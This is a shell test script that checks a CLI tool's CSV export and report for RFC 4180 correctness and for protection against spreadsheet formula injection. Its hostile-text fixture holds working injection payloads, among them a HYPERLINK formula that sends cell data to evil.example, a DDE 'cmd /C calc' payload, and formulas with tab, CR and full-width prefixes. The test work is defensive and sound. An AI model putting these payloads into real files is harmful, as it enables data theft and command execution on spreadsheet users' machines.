#!/bin/sh
# cli_csv.sh: `export --format csv` and `report --format csv` as a spreadsheet
# reads them: parsed by Python's csv module, RFC 4180 to the byte, the values of
# the demo, hostile text round-tripped, no cell a spreadsheet would compute, no
# control byte in the file; the canvas screen's x writes the same for a .csv.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/payloads.sh"
. "$(dirname "$0")/script.sh"

command -v python3 >/dev/null ||
    { echo "cli_csv: skipped: python3 (its csv module parses the output) is not installed"; exit 77; }
command -v sqlite3 >/dev/null ||
    { echo "cli_csv: skipped: the sqlite3 shell (Debian package sqlite3) is not installed"; exit 77; }

# is FILE EXPR VALUE WHAT: one assertion, that EXPR prints VALUE when Python
# evaluates it on FILE read as a spreadsheet would: raw (its bytes), bom
# (whether it starts with one), header (the first row), rows (the others, as
# dicts by the header's names), table (every row as a list); canonical() is
# whether Python's own RFC 4180 writer (CRLF, quotes only where needed) writes
# the same bytes back; computed() lists the cells a spreadsheet could compute:
# in a text column, one that begins with = + - @ a tab or a CR (or full-width
# = + - @) after spaces; in a number column, one that is not a plain number;
# as_json(FILE) compares each kind of row with report --json's FILE. Kept and
# judged together at judge, by one python3 (on a busy machine each start takes
# most of a second): FILE must not change in between.
cat >"$WORK/csvq.py" <<'PY'
import csv, io, json, re, sys
NUMBERS = {'answered', 'count', 'agreement', 'rank', 'rank_sum', 'kendall_w'}
def load(path):
    raw = open(path, 'rb').read()
    bom = raw.startswith(b'\xef\xbb\xbf')
    text = raw[3 if bom else 0:].decode('utf-8')
    table = list(csv.reader(io.StringIO(text, newline=''), strict=True))
    header, body = (table[0], table[1:]) if table else ([], [])
    rows = [dict(zip(header, r)) for r in body]
    def canonical():
        out = io.StringIO(newline='')
        csv.writer(out, lineterminator='\r\n').writerows(table)
        return out.getvalue() == text and all(len(r) == len(header) for r in table)
    def computed():
        bad = []
        for r in body:
            for name, cell in zip(header, r):
                if name in NUMBERS:
                    if cell and not re.fullmatch(r'-?[0-9]+(\.[0-9]+)?', cell):
                        bad.append(cell)
                elif cell.lstrip(' ')[:1] in ('=', '+', '-', '@', '\t', '\r',
                                             '\uff1d', '\uff0b', '\uff0d', '\uff20'):
                    bad.append(cell)
        return bad
    def as_json(path):
        j = json.load(open(path))
        def num(x): return '' if x is None else ('%g' % x)
        def kind(k): return [r for r in rows if r['kind'] == k]
        problems = []
        def same(what, a, b):
            if a != b: problems.append('%s: %r is not %r' % (what, a, b))
        same('overall', [r['agreement'] for r in kind('overall')], [num(j['overall'])])
        same('steps', [(r['step'], r['answered'], r['agreement']) for r in kind('step')],
             [(s['step'], str(s['answered']), num(s['alignment'])) for s in j['steps']])
        same('kendall_w', [r['kendall_w'] for r in kind('step')],
             [num(s['vote']['kendall_w']) if s['vote'] else '' for s in j['steps']])
        same('groups', [(r['step'], r['group'], r['count'], r['tag']) for r in kind('group')],
             [(s['step'], g['group'], str(g['count']), g.get('tag', '')) for s in j['steps']
              for g in s['coverage']])
        same('pairs', [(r['step'], r['a'], r['b'], r['agreement']) for r in kind('pair')],
             [(s['step'], p['a'], p['b'], num(p['agreement'])) for s in j['steps']
              for p in s['pairs']])
        same('departments', [(r['step'], r['a_role'], r['b_role'], r['agreement'])
                             for r in kind('department')],
             [(s['step'], d['a'], d['b'], num(d['agreement'])) for s in j['steps']
              for d in s['departments']])
        same('votes', [(r['step'], r['group'], r['rank'], r['rank_sum']) for r in kind('vote')],
             [(s['step'], o['group'], str(i + 1), num(o['rank_sum'])) for s in j['steps']
              if s['vote'] for i, o in enumerate(s['vote']['order'])])
        return '; '.join(problems) or 'same'
    return dict(locals(), json=json)
files = {}
for line in sys.stdin:
    path, expr, want, what = line.rstrip('\n').split('\t')
    try:
        if path not in files:
            files[path] = load(path)
        got = str(eval(expr, files[path]))
    except Exception as e:
        got = 'an error: %r' % e
    print('ok' if got == want else '%s: %s is %r, not %r' % (what, expr, got, want))
PY
is() { printf '%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" >>"$WORK/expect"; }
judge() {
    python3 "$WORK/csvq.py" <"$WORK/expect" >"$WORK/judged"
    check '[ "$(wc -l <"$WORK/judged")" = "$(wc -l <"$WORK/expect")" ]' "every assertion judged"
    while IFS= read -r line; do
        if [ "$line" = ok ]; then ok; else FAILED=$((FAILED + 1)); echo "FAIL: $line"; fi
    done <"$WORK/judged"
    : >"$WORK/expect"
}
: >"$WORK/expect"

# --- the demo: one row per answer, the alignment as one table ------------------------------
db="$WORK/demo.db"
"$SAMESONG" --db "$db" demo >/dev/null
done=replyline-finished-canvas open=replyline-positioning-workshop
run --db "$db" export $done --format csv; status 0 "export --format csv"
cp "$OUT" "$WORK/answers.csv"
a="$WORK/answers.csv"
is "$a" "header" "['session', 'step', 'participant', 'role', 'text', 'group', 'decided']" \
    "the export's header row"
is "$a" "canonical()" True "the export is RFC 4180 with CRLF line ends, as Python writes it"
is "$a" "bom" False "no byte-order mark on standard output"
is "$a" "raw.count(b'\r\n') == len(table) and raw.count(b'\r') == len(table)" True \
    "every row ends in CRLF, and no other CR is in the file"
"$SAMESONG" --db "$db" export $done >"$WORK/done.json"
is "$a" "len(rows) == len(json.load(open('$WORK/done.json'))['inputs'])" True \
    "one row per answer of the session file"
is "$a" "{r['session'] for r in rows}" "{'Replyline positioning workshop, finished'}" \
    "the session's name in every row, a comma quoted"
is "$a" "[r['role'] for r in rows if r['participant'] == 'Carlos'][:1]" "['success']" "a role"
is "$a" "[(r['group'], r['decided']) for r in rows if r['text'] == 'Excel + email']" \
    "[('Spreadsheets', 'no')]" "an answer's group; the group is no item of the decision"
is "$a" "[r['decided'] for r in rows if r['participant'] == 'Jonas' and r['text'] == 'Zendesk']" \
    "['yes']" "an answer that is an item of its step's decision is decided"
is "$a" "[r['decided'] for r in rows if r['text'] == 'Order lookup inside every ticket'][:1]" \
    "['yes']" "decided on the capabilities step too"
is "$a" "sorted({r['decided'] for r in rows})" "['no', 'yes']" "every step decided: yes or no"
is "$a" "computed()" "[]" "no cell of the demo's export is computed"
run --db "$db" export $open --format csv
cp "$OUT" "$WORK/open.csv"
is "$WORK/open.csv" "sorted({(r['step'], r['decided']) for r in rows})" \
    "[('alternatives', 'no'), ('capabilities', ''), ('category', ''), ('customers', ''), ('value', '')]" \
    "a decision in prose names no answer; an undecided step's answers are neither"
# -o: the same rows, after the byte-order mark Excel needs to read UTF-8
run --db "$db" export $done --format csv -o "$WORK/file.csv"; status 0 "export --format csv -o"
is "$WORK/file.csv" "bom" True "a file starts with the UTF-8 byte-order mark"
check 'tail -c +4 "$WORK/file.csv" | cmp -s - "$a"' "and then holds what standard output had"

run --db "$db" report $done --format csv; status 0 "report --format csv"
cp "$OUT" "$WORK/report.csv"
r="$WORK/report.csv"
is "$r" "header" "['session', 'step', 'kind', 'group', 'a', 'a_role', 'b', 'b_role', 'answered', 'count', 'agreement', 'tag', 'rank', 'rank_sum', 'kendall_w', 'decision']" \
    "the report's header row"
is "$r" "canonical()" True "the report is RFC 4180 with CRLF line ends"
is "$r" "computed()" "[]" "every number is a plain number, and no text cell is computed"
"$SAMESONG" --db "$db" report $done --json >"$WORK/report.json"
is "$r" "as_json('$WORK/report.json')" same "every row is what report --json says"
is "$r" "sorted({r['kind'] for r in rows})" "['department', 'group', 'overall', 'pair', 'step', 'vote']" \
    "rows of every kind"
is "$r" "[r['decision'].split('\n')[0] for r in rows if r['kind'] == 'step'][:1]" \
    "['Shared Gmail inbox and spreadsheets']" "a step's decision, its lines in one cell"
is "$r" "[r['tag'] for r in rows if r['group'] == 'AI auto-replies']" "['roadmap']" \
    "a capability's tag"

# --step still filters; --format json is --json, --format text the default
run --db "$db" report $done --format csv --step value; status 0 "report --format csv --step value"
cp "$OUT" "$WORK/value.csv"
is "$WORK/value.csv" "sorted({r['step'] for r in rows if r['kind'] != 'overall'})" "['value']" \
    "--step value: only the value step's rows, and the overall one"
is "$WORK/value.csv" "sorted({r['kind'] for r in rows})" \
    "['department', 'group', 'overall', 'pair', 'step', 'vote']" "of every kind"
run --db "$db" report $done --format json; cp "$OUT" "$WORK/format-json"
check 'cmp -s "$WORK/format-json" "$WORK/report.json"' "--format json is --json"
run --db "$db" report $done --format json --json; status 0 "--format json with --json"
run --db "$db" report $done --format text; cp "$OUT" "$WORK/format-text"
run --db "$db" report $done
check 'cmp -s "$WORK/format-text" "$OUT"' "--format text is the text report"

# a format that is none: a usage error naming the formats
run --db "$db" report $done --format xlsx; status 2 "report --format xlsx"
stderr_one_line; stderr_has "text, json, csv"
run --db "$db" report $done --json --format csv; status 2 "--json with --format csv"
stderr_one_line
run --db "$db" export $done --format xlsx; status 2 "export --format xlsx"
stderr_one_line; stderr_has "json, md, html, csv"

# --- hostile text: quotes, commas, line breaks and formulas in every kind of field ---------
# Each text begins with a character that starts a formula: = + - @ and their
# full-width forms; tabs and CRs are planted below, past what samesong accepts.
cat >"$WORK/hostile.json" <<'JSON'
{"format": "samesong-session/1",
 "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
 "participants": [{"name": "+Ann, the \"boss\"", "role": "ceo"}, {"name": "-Bob", "role": "sales"},
                  {"name": "@Cat", "role": "product"}, {"name": "＝Dee", "role": "marketing"},
                  {"name": "Eve", "role": "success"}],
 "inputs": [{"participant": "+Ann, the \"boss\"", "step": "alternatives", "text": "=1+1"},
            {"participant": "-Bob", "step": "alternatives", "text": "-2+3", "group": "@SUM(A1:A9)"},
            {"participant": "@Cat", "step": "alternatives", "text": "a, \"quoted\" answer"},
            {"participant": "＝Dee", "step": "alternatives", "text": "＋full width"},
            {"participant": "Eve", "step": "alternatives", "text": "tab here"},
            {"participant": "Eve", "step": "value", "text": "－x", "group": "＠y"},
            {"participant": "-Bob", "step": "value", "text": "+cmd|' /C calc'!A0"}],
 "votes": [{"participant": "-Bob", "step": "alternatives", "ranking": ["=1+1", "@SUM(A1:A9)"]},
           {"participant": "@Cat", "step": "alternatives", "ranking": ["@SUM(A1:A9)", "=1+1"]}],
 "decisions": [{"step": "alternatives", "text": "-Decision, \"first\"\n=1+1"}]}
JSON
hdb="$WORK/hostile.db"
"$SAMESONG" --db "$hdb" import "$WORK/hostile.json" --slug hostile >/dev/null
# behind samesong's back: a tab and a CR that begin an answer and a name
sqlite3 "$hdb" "PRAGMA ignore_check_constraints = 1;
    UPDATE inputs SET text = char(9) || '=1+1' WHERE text = 'tab here';
    UPDATE participants SET name = char(13) || '=Eve' WHERE name = 'Eve';"
run --db "$hdb" export hostile --format csv; status 0 "export of the hostile session"
cp "$OUT" "$WORK/hostile.csv"
h="$WORK/hostile.csv"
is "$h" "canonical()" True "hostile text: still RFC 4180 to the byte"
is "$h" "computed()" "[]" "hostile text: no cell a spreadsheet would compute"
is "$h" "{r['session'] for r in rows}" "{'\\'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'}" \
    "the session's name: = guarded, quotes round-trip"
is "$h" "[(r['participant'], r['text'], r['decided']) for r in rows][0]" \
    "('\\'+Ann, the \"boss\"', \"'=1+1\", 'yes')" \
    "a name with + a comma and quotes, an answer with =, an item of the decision"
is "$h" "[(r['participant'], r['text'], r['group'], r['decided']) for r in rows][1]" \
    "(\"'-Bob\", \"'-2+3\", \"'@SUM(A1:A9)\", 'no')" "- and @ guarded, in a name, an answer, a group"
is "$h" "[(r['participant'], r['text']) for r in rows][2]" \
    "(\"'@Cat\", 'a, \"quoted\" answer')" "commas and quotes round-trip"
is "$h" "[(r['participant'], r['text']) for r in rows][3]" "(\"'＝Dee\", \"'＋full width\")" \
    "full-width = and + guarded"
is "$h" "[(r['participant'], r['text']) for r in rows][4]" "('^M=Eve', '^I=1+1')" \
    "a CR or a tab before a formula is shown as ^M or ^I, which computes nothing"
is "$h" "[(r['text'], r['group'], r['decided']) for r in rows if r['step'] == 'value']" \
    "[(\"'+cmd|' /C calc'!A0\", '', ''), (\"'－x\", \"'＠y\", '')]" \
    "full-width - and @; DDE's cmd guarded; an undecided step"
run --db "$hdb" report hostile --format csv; status 0 "report of the hostile session"
cp "$OUT" "$WORK/hostile-report.csv"
hr="$WORK/hostile-report.csv"
is "$hr" "canonical()" True "the hostile report: RFC 4180 to the byte"
is "$hr" "computed()" "[]" "the hostile report: nothing computed, the numbers plain"
is "$hr" "repr([r['decision'] for r in rows if r['kind'] == 'step'][0])" \
    "'\\'-Decision, \"first\"\\n=1+1'" "a decision: guarded, its line break and quotes kept"
is "$hr" "[(r['a'], r['b']) for r in rows if r['kind'] == 'pair'][0]" \
    "('\\'+Ann, the \"boss\"', \"'-Bob\")" "names in a pair, guarded"
is "$hr" "[(r['group'], r['rank']) for r in rows if r['kind'] == 'vote']" \
    "[(\"'=1+1\", '1'), (\"'@SUM(A1:A9)\", '2')]" "the vote's groups guarded, ranks plain"

# --- the terminal payloads, planted in every text column: no control byte in the file ------
base="$WORK/base.db"
"$SAMESONG" --db "$base" demo >/dev/null
"$SAMESONG" --db "$base" import "$WORK/hostile.json" --slug hostile >/dev/null
plant "$base" "$PLANT_FREE_TEXT"
for s in 1 2 3; do
    for cmd in "export $s --format csv" "report $s --format csv"; do
        # shellcheck disable=SC2086
        run --db "$base" $cmd
        status 0 "planted: $cmd"
        f="$WORK/planted-$s-${cmd%% *}.csv"
        cp "$OUT" "$f"
        is "$f" "canonical()" True "planted: $cmd: RFC 4180 to the byte"
        is "$f" "computed()" "[]" "planted: $cmd: nothing computed"
        is "$f" "len(rows) > 1 and 'pwned' in text" True "planted: $cmd: has them"
        # CRLF ends the rows (checked above); any other control byte is a failure
        perl -pe 's/\r\n/\n/g' "$OUT" >"$WORK/lf.csv"
        clean "planted: $cmd" "$WORK/lf.csv" "$ERR"
    done
done
clean_flush

# --- LibreOffice, where it is installed: open the files with formulas evaluated ------------
# (Not installed by ./bootstrap: 200 MB. The CSV filter's options: comma, double quote,
# UTF-8, from line 1, ..., trim spaces off and on, every sheet, evaluate formulas.)
if command -v soffice >/dev/null; then
    mkdir "$WORK/lo"
    # a control: the hostile export with its guards taken off has formulas in it
    python3 -c "import sys; sys.stdout.write(open(sys.argv[1], newline='').read().replace(\"'\", ''))" \
        "$h" >"$WORK/lo/unguarded.csv"
    cp "$h" "$WORK/lo/export.csv"; cp "$hr" "$WORK/lo/report.csv"
    "$SAMESONG" --db "$base" export 3 --format csv -o "$WORK/lo/planted.csv"
    for trim in false true; do
        rm -f "$WORK"/lo/*.ods
        (cd "$WORK/lo" && HOME="$WORK/lo" soffice --headless \
            --infilter="CSV:44,34,76,1,,0,false,true,false,false,$trim,-1,true" \
            --convert-to ods unguarded.csv export.csv report.csv planted.csv >/dev/null 2>&1)
        # each file's cells that hold a formula
        python3 -c "import re, sys, zipfile
for f in sys.argv[1:]:
    print(f, len(re.findall(rb'table:formula=', zipfile.ZipFile(f + '.ods').read('content.xml'))))" \
            "$WORK/lo/unguarded" "$WORK/lo/export" "$WORK/lo/report" "$WORK/lo/planted" \
            >"$WORK/lo/formulas" 2>&1
        check 'grep -qE "unguarded [1-9]" "$WORK/lo/formulas"' \
            "LibreOffice (trim $trim): the control, unguarded, has formulas"
        for f in export report planted; do
            check 'grep -qx "$WORK/lo/$f 0" "$WORK/lo/formulas"' \
                "LibreOffice (trim $trim): no cell of $f.csv is a formula"
        done
    done
else
    echo "cli_csv: LibreOffice part skipped: soffice is not installed (libreoffice-calc-nogui)"
fi

# --- the canvas screen: x and a .csv name write the export ---------------------------------
drive 80 24 --db "$db" open $done <<SCRIPT
keys x
dump ask
keys C-u
type $WORK/canvas.csv
keys Enter
dump wrote
keys q q
SCRIPT
shows ask ".csv spreadsheet):" "x names the .csv, in 80 columns"
shows wrote "Wrote" "x writes the .csv"
is "$WORK/canvas.csv" "bom" True "the screen's CSV starts with the byte-order mark"
check 'tail -c +4 "$WORK/canvas.csv" | cmp -s - "$a"' "and is export --format csv"

judge
finish
